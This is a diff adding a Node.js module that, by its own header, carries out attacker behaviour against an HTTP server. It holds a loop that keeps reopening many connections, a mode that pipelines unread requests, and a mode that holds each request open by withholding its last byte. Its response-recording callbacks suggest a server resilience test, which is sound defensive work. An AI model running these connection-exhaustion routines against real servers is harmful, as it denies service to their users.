@@ -1,0 +1,71 @@
+/** Connections that are opened anew whenever they close, and what an attacker does with one of them. */
+import { connect } from "node:net";
+
+/** How long to wait after a failed connection, in milliseconds: the server may have ended. */
+const FAILED_MS = 50;
+/** The most requests on a connection whose answers are not read. */
+const MOST_UNREAD = 200;
+
+/** Opens so many connections again and again, and gives each to `act` once it is connected. */
+export function keepOpen(url, count, act) {
+  const { hostname, port } = new URL(url);
+  const open = () => {
+    const socket = connect(Number(port), hostname).setNoDelay();
+    socket.on("error", () => {});
+    socket.on("close", (failed) => setTimeout(open, failed ? FAILED_MS : 0));
+    socket.on("connect", () => act(socket));
+  };
+  for (let i = 0; i < count; i++) open();
+}
+
+/** What is done with a connection, by what of it is held back. Each calls `hear` with the head and the beginning of an answer. */
+export const ACTS = {
+  /** Asks, reads the answer, and asks again. */
+  nothing: (socket, nextRequest, hear) => {
+    onAnswers(socket, (answer) => {
+      hear(answer);
+      if (/^connection: close/im.test(answer)) socket.destroy();
+      else socket.write(nextRequest());
+    });
+    socket.write(nextRequest());
+  },
+
+  /** Asks on, and reads nothing. */
+  answers: (socket, nextRequest) => {
+    let sent = 0;
+    const send = () => {
+      while (sent++ < MOST_UNREAD && socket.write(nextRequest()));
+    };
+    socket.on("drain", send);
+    send();
+  },
+
+  /** Never ends a request. */
+  "last byte": (socket, nextRequest, hear) => {
+    onAnswers(socket, (answer) => {
+      hear(answer);
+      socket.destroy();
+    });
+    socket.write(nextRequest().subarray(0, -1));
+  },
+};
+
+/** Hears of each answer on a connection where they come one by one; of a long one it keeps the beginning only. */
+function onAnswers(socket, hear) {
+  let beginning = "";
+  let left;
+  socket.on("data", (chunk) => {
+    if (left === undefined) {
+      beginning += chunk.toString("latin1");
+      const head = beginning.indexOf("\r\n\r\n") + 4;
+      if (head < 4) return;
+      left = head + Number(/content-length: *(\d+)/i.exec(beginning)?.[1] ?? 0) - beginning.length;
+    } else {
+      left -= chunk.length;
+    }
+    if (left > 0) return;
+    hear(beginning);
+    beginning = "";
+    left = undefined;
+  });
+}
